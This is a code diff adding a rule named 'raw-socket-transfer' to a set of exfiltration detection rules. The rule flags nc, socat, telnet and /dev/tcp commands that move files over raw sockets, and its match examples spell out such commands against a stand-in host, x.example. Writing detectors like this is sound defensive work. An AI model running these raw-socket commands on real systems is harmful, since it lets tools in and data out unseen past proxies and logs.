@@ -29,6 +29,30 @@ export const EXFIL_RULES: Rule[] = [
     match: { command: (c) => remoteSends(effectsOf(c).sends).some((s) => s.channel !== 'http' && s.channel !== 'dns' && (s.files.length > 0 || s.stdin)) },
   },
   {
+    id: 'raw-socket-transfer',
+    name: 'File moved over a raw socket',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1105',
+    description: 'A file received from or sent to another host over a raw TCP/UDP socket, outside any download or copy tool: nc/ncat/socat/telnet output into a file, socat … open:FILE, reading /dev/tcp/HOST/PORT into a file or a substitution.',
+    help: 'Raw sockets move tools in and data out past proxies and logs. Check the host and the file.',
+    examples: {
+      match: ['nc x.example 12345 > /tmp/tool', 'socat -u tcp-connect:x.example:12345 open:/tmp/f,creat', "bash -c 'echo \"$(</dev/tcp/x.example/12345)\" > /tmp/f'"],
+      not_match: ['nc -zv db.internal 5432', 'curl -o tool https://x.example/tool', 'echo PING | nc -q1 localhost 6379 > out.txt'],
+    },
+    match: {
+      command: (c) => {
+        const toFile = c.redirects.some((r) => /^1?(?:>|>>)$/.test(r.op) && r.target && !r.target.startsWith('/dev/'));
+        if (/^(?:nc|ncat|netcat|telnet)$/.test(c.name)) {
+          const host = c.argv.slice(1).find((a) => !a.startsWith('-') && !/^\d+$/.test(a));
+          return toFile && host !== undefined && !isLoopbackHost(host.toLowerCase()) && !c.argv.some((a) => /^-[a-zA-Z]*z/.test(a));
+        }
+        if (c.name === 'socat') return c.argv.some((a) => /^(?:tcp|udp)[46]?(?:-connect|-listen)?:/i.test(a)) && c.argv.some((a) => /^(?:open|create|gopen):/i.test(a));
+        return c.redirects.some((r) => /^0?<$/.test(r.op) && /^\/dev\/(?:tcp|udp)\//.test(r.target) && !/\/(?:127\.\d+\.\d+\.\d+|localhost)\//.test(r.target));
+      },
+    },
+  },
+  {
     id: 'dns-exfil',
     name: 'Data sent in DNS lookups',
     category: 'exfiltration',
